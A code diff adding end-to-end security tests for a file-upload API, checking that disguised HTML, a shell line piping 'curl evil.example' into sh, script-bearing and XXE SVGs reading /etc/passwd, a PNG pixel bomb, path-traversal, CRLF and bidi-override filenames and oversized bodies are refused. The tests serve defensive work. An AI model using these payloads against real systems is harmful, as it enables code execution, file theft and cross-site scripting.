@@ -1,5 +1,7 @@
 import { test, expect } from "@playwright/test";
 import http from "node:http";
+import sharp from "sharp";
+import { crc32 } from "node:zlib";
 import { startApp } from "../scripts/lib/app.mjs";
 import { PASSWORD, apiContexts, createAccount, newTitle, newUsername, signInApi, slugPath, sql, verifyAddress, waitForMail } from "./fixtures";
 
@@ -129,6 +131,8 @@ test("CSRF: every state-changing endpoint refuses a foreign Origin (403) and cha
     ["POST", `/api/talk/${slugPath(title)}`, { content: "forged" }],
     ["DELETE", `/api/talk/${slugPath(title)}/1`, undefined],
     ["POST", "/api/admin/cache/flush", undefined],
+    ["PUT", `/api/files/File:${slugPath(title)}.png`, "not really a png"],
+    ["POST", `/api/files/File:${slugPath(title)}.png/revert`, { versionId: 1 }],
   ];
   for (const [method, url, data] of calls) {
     const res = await evil.fetch(url, { method, data });
@@ -633,4 +637,158 @@ test("SIGTERM stops an instance within seconds even while it is serving a reques
   } finally {
     if (child.exitCode === null) child.kill("SIGKILL");
   }
+});
+
+/** A PNG of `width` x `height` pixels; `seed` makes its bytes unique. */
+const tinyPng = (seed: number, width = 4, height = 3) =>
+  sharp({ create: { width, height, channels: 3, background: { r: seed % 256, g: Math.floor(seed / 256) % 256, b: 7 } } }).png().toBuffer();
+
+/** A PNG whose header claims `width` x `height` pixels (a decompression bomb's shape; its data is a few bytes). */
+function claimedPng(width: number, height: number): Buffer {
+  const chunk = (type: string, data: Buffer) => {
+    const len = Buffer.alloc(4);
+    len.writeUInt32BE(data.length);
+    const crc = Buffer.alloc(4);
+    crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type), data])));
+    return Buffer.concat([len, Buffer.from(type), data, crc]);
+  };
+  const ihdr = Buffer.alloc(13);
+  ihdr.writeUInt32BE(width, 0);
+  ihdr.writeUInt32BE(height, 4);
+  ihdr.set([8, 2, 0, 0, 0], 8);
+  return Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), chunk("IHDR", ihdr), chunk("IDAT", Buffer.alloc(32)), chunk("IEND", Buffer.alloc(0))]);
+}
+
+test("files: bytes that lie about their type, harmful SVGs, pixel bombs, empty and oversized bodies are 4xx and store nothing", async () => {
+  const { c } = await signedIn();
+  const blobsBefore = Number((await sql("SELECT count(*) AS n FROM blobs"))[0].n);
+  const put = (name: string, data: Buffer | string) => c.put(`/api/files/${slugPath(`File:${name}`)}`, { data: typeof data === "string" ? Buffer.from(data) : data });
+  const refusals: [string, Buffer | string, RegExp][] = [
+    [`${newTitle("html")}.png`, "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", /text\/html/],
+    [`${newTitle("script")}.png`, "<script>alert(document.cookie)</script>", /text\/html/],
+    [`${newTitle("shell")}.png`, "#!/bin/sh\ncurl evil.example | sh\n", /application\/x-sh/],
+    [`${newTitle("js")}.txt`, "<script src=//evil.example/x.js></script>", /text\/html/],
+    [`${newTitle("pe")}.pdf`, Buffer.concat([Buffer.from("MZ"), Buffer.alloc(256)]), /./],
+    [`${newTitle("png")}.gif`, await tinyPng(1), /image\/png/],
+    [`${newTitle("svgscript")}.svg`, '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', /script/],
+    [`${newTitle("svgonload")}.svg`, '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>', /event handler/],
+    [`${newTitle("svgfo")}.svg`, '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>', /foreignObject/],
+    [`${newTitle("svgext")}.svg`, '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://evil.example/track.png"/></svg>', /outside/],
+    [`${newTitle("svgcss")}.svg`, '<svg xmlns="http://www.w3.org/2000/svg"><style>rect { fill: url(https://evil.example/x) }</style></svg>', /style/],
+    [`${newTitle("svgxxe")}.svg`, '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>', /DOCTYPE/],
+    [`${newTitle("bomb")}.png`, claimedPng(100_000, 100_000), /100000 x 100000/],
+    [`${newTitle("empty")}.png`, "", /empty/],
+  ];
+  for (const [name, data, why] of refusals) {
+    const res = await put(name, data);
+    const body = await res.text();
+    probe(res.status() === 400 && why.test(body) && body.includes('"bad_request"'), `upload of ${name} answered ${res.status()} ${body.slice(0, 160)}`);
+  }
+  const limit = Number(process.env.E2E_UPLOAD_MAX_BYTES ?? 100 * 1024 * 1024);
+  const cookie = (await c.storageState()).cookies.map((k) => `${k.name}=${k.value}`).join("; ");
+  const path = `/api/files/${slugPath(`File:${newTitle("big")}.png`)}`;
+  const declared = await raw({ method: "PUT", path, headers: { Origin: origin, Cookie: cookie, "Content-Length": String(limit + 1) } });
+  probe(declared.status === 413, `an upload declared past UPLOAD_MAX_BYTES answered ${declared.status}`);
+  const chunked = await raw({
+    method: "PUT",
+    path,
+    headers: { Origin: origin, Cookie: cookie, "Transfer-Encoding": "chunked" },
+    body: (req) => {
+      const chunk = Buffer.alloc(512 * 1024, 0x61);
+      let sent = 0;
+      const write = () => {
+        while (sent < limit + 4 * 1024 * 1024) {
+          sent += chunk.length;
+          if (!req.write(chunk)) return void req.once("drain", write);
+        }
+        req.end();
+      };
+      req.on("error", () => {});
+      write();
+    },
+  });
+  probe(chunked.status === 413 || chunked.status === 0, `an undeclared upload past UPLOAD_MAX_BYTES answered ${chunked.status}`);
+  const blobsAfter = Number((await sql("SELECT count(*) AS n FROM blobs"))[0].n);
+  probe(blobsAfter === blobsBefore, `refused uploads stored ${blobsAfter - blobsBefore} blobs`);
+  probe((await (await ctx()).get("/api/health")).ok(), "the server still answers");
+});
+
+test("files: names with ../, controls, bidi overrides and quotes are refused or made safe, in titles and Content-Disposition", async () => {
+  const { c } = await signedIn();
+  const png = await tinyPng(2);
+  for (const name of ["../../etc/passwd.png", "a/../b.png", "bell\u0007.png", "nul\u0000.png", "del\u007f.png"]) {
+    const res = await c.put(`/api/files/File:${name.split("/").map(encodeURIComponent).join("/")}`, { data: png });
+    probe(res.status() === 400, `a file named ${JSON.stringify(name)} answered ${res.status()}`);
+  }
+  // line breaks are white space in a title: they become one space, so no header can be smuggled through a name
+  const crlf = await c.put(`/api/files/${encodeURIComponent(`File:${newTitle("line")}\r\nSet-Cookie: x=1.png`)}`, { data: png });
+  const crlfFile = crlf.status() === 201 ? ((await crlf.json()) as { file: { title: string; url: string } }).file : null;
+  const crlfHeaders = crlfFile ? (await (await ctx()).get(crlfFile.url)).headers() : {};
+  probe(crlf.status() === 400 || (!!crlfFile && !/[\r\n]/.test(crlfFile.title) && !("set-cookie" in crlfHeaders)), `a name with CR LF: ${crlf.status()} ${JSON.stringify(crlfHeaders)}`);
+  // a bidi override is removed from the title: "invoice\u202Egnp.exe" is then named .exe, and PNG bytes disagree
+  const bidi = await c.put(`/api/files/${encodeURIComponent("File:invoice\u202Egnp.exe")}`, { data: png });
+  probe(bidi.status() === 400, `a name with a bidi override answered ${bidi.status()}`);
+  const quoted = `File:${newTitle("Say")} "hi"; x=1 é.png`;
+  const up = await c.put(`/api/files/${slugPath(quoted)}`, { data: png });
+  probe(up.status() === 201, `a name with quotes and a semicolon was refused: ${up.status()}`);
+  const { file } = (await up.json()) as { file: { url: string } };
+  const cd = (await (await ctx()).get(file.url)).headers()["content-disposition"] ?? "";
+  const quotedPart = /filename="([^"]*)"/.exec(cd)?.[1] ?? "";
+  probe(/^inline; filename="[^"]*"; filename\*=UTF-8''[A-Za-z0-9%._~-]+$/.test(cd) && !/[";]/.test(quotedPart), `Content-Disposition ${cd}`);
+  probe(decodeURIComponent(/filename\*=UTF-8''(.*)$/.exec(cd)?.[1] ?? "") === quoted.slice(5).replaceAll(" ", "_") || decodeURIComponent(/filename\*=UTF-8''(.*)$/.exec(cd)?.[1] ?? "") === quoted.slice(5), `the encoded name is the file's: ${cd}`);
+  for (const q of ["width=-1", "width=abc", "width=1e9", "width=0", "width=99999999999"]) {
+    const res = await (await ctx()).get(`${file.url}?${q}`);
+    probe(res.status() === 400, `?${q} answered ${res.status()}`);
+  }
+  for (const p of ["/media/abc/x.png", "/media/0/x.png", "/media/99999999999/x.png", "/media/2147483647/x.png"]) {
+    const res = await (await ctx()).get(p);
+    probe(res.status() === 404, `${p} answered ${res.status()}`);
+  }
+});
+
+test("files: readers, blocked and signed-out people, requests without Origin and uploads to protected pages are refused", async () => {
+  const png = await tinyPng(3);
+  const title = `File:${newTitle("Guarded")}.png`;
+  const anonymous = await (await ctx()).put(`/api/files/${slugPath(title)}`, { data: png });
+  probe(anonymous.status() === 401, `a signed-out upload answered ${anonymous.status()}`);
+  const reader = await signedIn();
+  await sql("UPDATE users SET role = 'reader' WHERE username_key = $1", [reader.name.toLowerCase()]);
+  probe((await reader.c.put(`/api/files/${slugPath(title)}`, { data: png })).status() === 403, "a reader uploaded");
+  const blocked = await signedIn();
+  await sql("UPDATE users SET blocked = true WHERE username_key = $1", [blocked.name.toLowerCase()]);
+  probe((await blocked.c.put(`/api/files/${slugPath(title)}`, { data: png })).status() === 403, "a blocked person uploaded");
+  const editor = await signedIn();
+  const noOrigin = await ctx({}, await editor.c.storageState());
+  probe((await noOrigin.put(`/api/files/${slugPath(title)}`, { data: png })).status() === 403, "a cookie upload without Origin was taken");
+  const created = await editor.c.put(`/api/files/${slugPath(title)}`, { data: png });
+  probe(created.status() === 201, `the editor's upload answered ${created.status()}`);
+  await sql("UPDATE pages SET protection = 'admin' WHERE title = $1", [title]);
+  probe((await editor.c.put(`/api/files/${slugPath(title)}`, { data: await tinyPng(4) })).status() === 403, "an upload to a protected File page was taken");
+  const { versions } = (await (await ctx()).get(`/api/files/${slugPath(title)}`).then((r) => r.json())) as { versions: { id: number }[] };
+  probe((await editor.c.post(`/api/files/${slugPath(title)}/revert`, { data: { versionId: versions[0]!.id } })).status() === 403, "a revert of a protected file was taken");
+  probe(versions.length === 1, `a refused upload added a version (${versions.length})`);
+});
+
+test("files: two uploads of one name at once are both kept, in order; the same bytes under two names are stored once; uploads are rate-limited", async () => {
+  const { c } = await signedIn();
+  const title = `File:${newTitle("Race")}.png`;
+  const [one, two] = await Promise.all([c.put(`/api/files/${slugPath(title)}`, { data: await tinyPng(10) }), c.put(`/api/files/${slugPath(title)}`, { data: await tinyPng(11) })]);
+  probe([one.status(), two.status()].sort().join() === "200,201", `two uploads at once answered ${one.status()} and ${two.status()}`);
+  const { versions } = (await (await c.get(`/api/files/${slugPath(title)}`)).json()) as { versions: { number: number }[] };
+  probe(versions.map((v) => v.number).join() === "2,1", `versions ${versions.map((v) => v.number).join()}`);
+  const same = await tinyPng(12);
+  const [x, y] = [`File:${newTitle("Twin")}.png`, `File:${newTitle("Twin")}.png`];
+  const fx = (await (await c.put(`/api/files/${slugPath(x)}`, { data: same })).json()) as { file: { version: { sha256: string } } };
+  probe((await c.put(`/api/files/${slugPath(y)}`, { data: same })).status() === 201, "the second name took the same bytes");
+  const copies = await sql("SELECT count(*)::int AS n FROM blobs WHERE sha256 = $1", [fx.file.version.sha256]);
+  const pages = await sql("SELECT count(*)::int AS n FROM file_versions WHERE sha256 = $1", [fx.file.version.sha256]);
+  probe(copies[0].n === 1 && pages[0].n === 2, `one copy of the bytes (${copies[0].n}), two pages (${pages[0].n})`);
+  const fast = await signedIn();
+  let limited = false;
+  for (let i = 0; i < 40 && !limited; i++) {
+    const res = await fast.c.put(`/api/files/${slugPath(`File:${newTitle("Flood")}.png`)}`, { data: await tinyPng(1000 + i) });
+    limited = res.status() === 429;
+    if (limited) probe((await res.json()).error.code === "rate_limited", "a 429 says rate_limited");
+  }
+  probe(limited, "uploading as fast as possible never met the rate limit");
 });
